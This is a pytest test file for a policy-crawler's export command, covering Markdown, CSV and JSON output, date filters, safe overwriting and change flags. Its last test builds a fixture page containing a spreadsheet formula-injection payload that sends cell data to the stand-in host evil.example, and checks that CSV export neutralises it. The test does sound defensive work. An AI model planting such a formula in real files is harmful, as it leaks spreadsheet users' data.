"""`policywatch export`: Markdown files per version plus metadata, or one CSV/JSON file."""

from __future__ import annotations

import csv
import json

import pytest

from crawler.config import watchlist
from crawler.sandbox.siteserver import Page
from tests.support.paths import FAST_SETTINGS
from tests.support.query_history import CONTOSO_V1, NORTHWIND_V2, build_history


@pytest.fixture
def db(tmp_path):
    build_history(tmp_path / "history.db").close()
    return str(tmp_path / "history.db")


def test_markdown_export_writes_one_file_per_version_and_a_manifest(db, run_cli, tmp_path):
    out = tmp_path / "dataset"
    result = run_cli("export", "--db", db, "--out", str(out))
    assert "5 versions exported" in result.stdout
    files = sorted(str(p.relative_to(out)) for p in out.rglob("*.md"))
    assert files == [
        "Contoso/contoso-terms/2021-03-05.md",
        "Contoso/contoso-terms/2023-06-01.md",
        "Northwind-Traders/northwind-privacy/2022-05-03.md",
        "Northwind-Traders/northwind-privacy/2023-02-10.md",
        "Northwind-Traders/northwind-privacy/2023-09-02.md",
    ]
    assert (out / files[0]).read_text() == CONTOSO_V1
    with (out / "versions.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["file"] for row in rows] == files
    silent = rows[3]
    assert (silent["policy"], silent["change_kind"], silent["effective_date"]) == (
        "northwind-privacy",
        "silent-edit",
        "2022-05-01",
    )
    assert silent["capture_url"] == "https://northwind.example/privacy"
    assert len(silent["raw_hash"]) == 64 and len(silent["text_hash"]) == 64
    assert silent["version_number"] == "2"


def test_since_and_json_format(db, run_cli, tmp_path):
    out = tmp_path / "recent"
    run_cli("export", "--db", db, "--format", "json", "--since", "2023-01-01", "--out", str(out))
    records = json.loads((out / "versions.json").read_text())
    assert [(r["policy"], r["first_seen"][:10]) for r in records] == [
        ("contoso-terms", "2023-06-01"),
        ("northwind-privacy", "2023-02-10"),
        ("northwind-privacy", "2023-09-02"),
    ]
    assert records[1]["markdown"] == NORTHWIND_V2
    assert not list(out.rglob("*.md"))


def test_csv_format_carries_the_text_and_bad_dates_are_refused(db, run_cli, tmp_path):
    out = tmp_path / "flat"
    run_cli("export", "--db", db, "--format", "csv", "--out", str(out))
    with (out / "versions.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["markdown"] == CONTOSO_V1 and "file" not in rows[0]
    bad = run_cli("export", "--db", db, "--since", "last tuesday", check=False)
    assert bad.returncode == 1 and "not a date" in bad.stderr


@pytest.mark.parametrize("fmt", ["markdown", "csv", "json"])
def test_an_export_over_an_earlier_one_holds_exactly_this_export(db, run_cli, tmp_path, fmt):
    out = tmp_path / "dataset"
    run_cli("export", "--db", db, "--out", str(out))  # everything, as Markdown files
    run_cli("export", "--db", db, "--format", fmt, "--since", "2023-06-01", "--out", str(out))
    files = sorted(str(p.relative_to(out)) for p in out.rglob("*") if p.is_file())
    expected = {
        "markdown": [
            "Contoso/contoso-terms/2023-06-01.md",
            "Northwind-Traders/northwind-privacy/2023-09-02.md",
            "versions.csv",
        ],
        "csv": ["versions.csv"],
        "json": ["versions.json"],
    }
    assert files == expected[fmt]
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_export_refuses_a_directory_that_is_not_an_earlier_export(db, run_cli, tmp_path):
    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / "todo.txt").write_text("keep me")
    result = run_cli("export", "--db", db, "--out", str(notes), check=False)
    assert result.returncode == 1 and "is not an earlier export" in result.stderr
    assert [p.name for p in notes.iterdir()] == ["todo.txt"]


def test_change_flags_are_the_list_history_gives_in_every_format(db, run_cli, tmp_path):
    history = {
        (name, v["number"]): v["flags"]
        for name in ("northwind-privacy", "contoso-terms")
        for v in json.loads(run_cli("history", name, "--db", db, "--format", "json").stdout)[
            "versions"
        ]
    }
    run_cli("export", "--db", db, "--format", "json", "--out", str(tmp_path / "j"))
    records = json.loads((tmp_path / "j" / "versions.json").read_text())
    assert {(r["policy"], r["version_number"]): r["change_flags"] for r in records} == history
    run_cli("export", "--db", db, "--format", "csv", "--out", str(tmp_path / "c"))
    with (tmp_path / "c" / "versions.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {
        (r["policy"], int(r["version_number"])): json.loads(r["change_flags"]) for r in rows
    } == history


FORMULA_PAGE = b"""<html><head><title>Privacy</title></head><body><main>
<p>=HYPERLINK("http://evil.example/?leak="&amp;A1,"Click for details") is how this policy
starts, a formula in the page text that a spreadsheet would run if a cell began with it.
We collect your name and e-mail address to run the service, and keep them for a year.</p>
<h2>Sharing</h2><p>We share data with hosting providers under contract only.</p>
</main></body></html>"""


def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed(site, run_cli, tmp_path):
    site.pages["/privacy"] = Page(FORMULA_PAGE)
    watch = tmp_path / "w.yaml"
    policy = watchlist.Policy(name="quill-privacy", url=site.url("/privacy"), organisation="@Quill")
    watchlist.save(watch, [policy])
    db = tmp_path / "crawled.db"
    run_cli("crawl", "--db", str(db), "--watchlist", str(watch), *FAST_SETTINGS)
    for fmt in ("csv", "markdown"):
        out = tmp_path / fmt
        run_cli("export", "--db", str(db), "--format", fmt, "--out", str(out))
        with (out / "versions.csv").open(newline="") as handle:
            (row,) = list(csv.DictReader(handle))
        assert row["organisation"] == "'@Quill"
        if fmt == "csv":
            assert row["markdown"].startswith("'=HYPERLINK(")
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    # The Markdown files and JSON are not spreadsheets: their text stays as it was.
    (markdown,) = (tmp_path / "markdown").rglob("*.md")
    assert markdown.read_text().startswith("=HYPERLINK(")
    run_cli("export", "--db", str(db), "--format", "json", "--out", str(tmp_path / "json"))
    (record,) = json.loads((tmp_path / "json" / "versions.json").read_text())
    assert record["organisation"] == "@Quill" and record["markdown"].startswith("=HYPERLINK(")
